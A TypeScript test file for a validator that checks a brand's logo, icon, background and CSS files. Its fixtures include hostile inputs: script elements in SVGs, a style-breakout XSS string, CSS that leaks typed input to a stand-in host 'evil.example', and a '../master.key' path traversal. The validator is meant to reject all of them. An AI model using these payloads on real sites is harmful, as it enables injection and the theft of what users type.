import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, onTestFinished, test } from 'vitest'
import { readBrandFiles } from './read-files.ts'

const logo = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 20"><path d="M0 0h9z"/></svg>'
const webp = Buffer.concat([Buffer.from('RIFF\0\0\0\0WEBPVP8 ', 'latin1'), Buffer.alloc(20)])
const png = (width: number, height: number) => {
  const bytes = Buffer.alloc(40)
  bytes.write('\x89PNG\r\n\x1a\n\0\0\0\rIHDR', 'latin1')
  bytes.writeUInt32BE(width, 16)
  bytes.writeUInt32BE(height, 20)
  return bytes
}

const read = (files: Record<string, string | Buffer>) => {
  const folder = mkdtempSync(join(tmpdir(), 'gatehouse-brand-'))
  onTestFinished(() => rmSync(folder, { recursive: true }))
  for (const [name, content] of Object.entries(files)) writeFileSync(join(folder, name), content)
  const problems: string[] = []
  const read = readBrandFiles(folder, (path, sentence) => problems.push(path.replace(`${folder}/`, '') + sentence))
  return { problems, files: read }
}

test('reads every file of a brand', () => {
  const { problems, files } = read({
    'logo.svg': logo,
    'logo-dark.svg': logo,
    'favicon.svg': logo,
    'icon.png': png(512, 512),
    'background.webp': webp,
    'brand.css': '@font-face{font-family:Acme;src:url(./acme.woff2)} body{background-image:url("dots.svg")} a{--x:1;mask:url(#a)}',
    'acme.woff2': 'wOF2 and so on',
    'dots.svg': logo,
    'README.md': 'Notes',
    '.DS_Store': 'anything',
  })
  expect(problems).toEqual([])
  expect(Object.keys(files)).toEqual(['logo', 'logoDark', 'favicon', 'icon', 'background', 'styles'])
  expect(files.logo).toMatchObject({ type: 'image/svg+xml', width: 100, height: 20 })
  expect(files.styles?.loads.map(({ file }) => [file.name, file.type])).toEqual([
    ['acme.woff2', 'font/woff2'],
    ['dots.svg', 'image/svg+xml'],
  ])
  for (const { placeholder } of files.styles?.loads ?? []) expect(files.styles?.text).toContain(placeholder)
  expect(files.styles?.text).toMatch(/mask:url\("?#a"?\)/)
})

test('accepts an empty folder, and reads no files from it', () => {
  expect(read({})).toEqual({ problems: [], files: {} })
})

test('a style sheet cannot end the element that contains it', () => {
  const { problems, files } = read({ 'brand.css': 'a::after{content:"</style><script>alert(1)</script>"}' })
  expect(problems).toEqual([])
  expect(files.styles?.text).not.toContain('</')
})

test.each<[string, Record<string, string | Buffer>, string[]]>([
  ['hostile SVG', { 'logo.svg': logo.replace('<path', '<script/><path') }, ['logo.svg contains the element script; remove it']],
  [
    'a huge SVG',
    { 'logo.svg': logo.replace('<path', `<!--${'x'.repeat(50_000)}--><path`) },
    ['logo.svg has 49 KiB; at most 48 are possible'],
  ],
  ['a picture of another format', { 'background.webp': png(9, 9) }, ['background.webp is not a WEBP file']],
  ['an empty picture', { 'background.avif': '' }, ['background.avif is not an AVIF file']],
  [
    'two backgrounds',
    { 'background.webp': webp, 'background.svg': logo },
    ['background.webp: background.svg exists as well; keep one of them'],
  ],
  ['a small icon', { 'icon.png': png(180, 180) }, ['icon.png must be square and at least 512 px wide; it has 180 × 180 px']],
  ['a dark logo alone', { 'logo-dark.svg': logo }, ['logo-dark.svg replaces logo.svg in the dark theme, which is missing']],
  [
    'a wrong name',
    { 'Logo.png': png(9, 9) },
    [
      'Logo.png is not a file of a brand (logo.svg, logo-dark.svg, favicon.svg, icon.png, background.svg, background.webp, background.avif, brand.css), and brand.css does not load it',
    ],
  ],
  ['an unreadable rule', { 'brand.css': 'a{color:red}\na{b' }, ['brand.css, line 2: Unexpected end of input']],
  ['an import', { 'brand.css': '@import "x.css";' }, ['brand.css, line 1 imports x.css; put its rules into this file']],
  [
    'a file of another site',
    { 'brand.css': 'a{background:url(https://evil.example/p.png)}\nb{background:url("//evil.example/p")}' },
    [
      'brand.css, line 1 loads https://evil.example/p.png; pages load files of this folder only',
      'brand.css, line 2 loads //evil.example/p; pages load files of this folder only',
    ],
  ],
  [
    'a file that leaks what is typed',
    { 'brand.css': 'input[value^="a"]{background:url(https://evil.example/a)}' },
    ['brand.css, line 1 loads https://evil.example/a; pages load files of this folder only'],
  ],
  ['a missing file', { 'brand.css': 'a{background:url(dots.png)}' }, ['brand.css, line 1 loads dots.png, which is not in this folder']],
  [
    'a file of another folder',
    { 'brand.css': 'a{background:url(../master.key)}' },
    ['brand.css, line 1 loads ../master.key, which is not an .svg, .png, .webp, .avif, .jpg or .woff2 file of this folder'],
  ],
  [
    'a loaded SVG with a script',
    { 'brand.css': 'a{background:url(a.svg)}', 'a.svg': logo.replace('<path', '<script/><path') },
    ['a.svg contains the element script; remove it'],
  ],
])('%s: reports each problem in one clear sentence', (_, files, problems) => {
  expect(read(files).problems).toEqual(problems)
})

test('names a folder or file that it cannot read', () => {
  const problems: string[] = []
  readBrandFiles('/nowhere', (path, sentence) => problems.push(path + sentence))
  const folder = mkdtempSync(join(tmpdir(), 'gatehouse-brand-'))
  onTestFinished(() => rmSync(folder, { recursive: true }))
  mkdirSync(join(folder, 'logo.svg'))
  readBrandFiles(folder, (path, sentence) => problems.push(path.replace(folder, '') + sentence))
  expect(problems).toEqual(['/nowhere cannot be read (ENOENT)', '/logo.svg cannot be read (EISDIR)'])
})
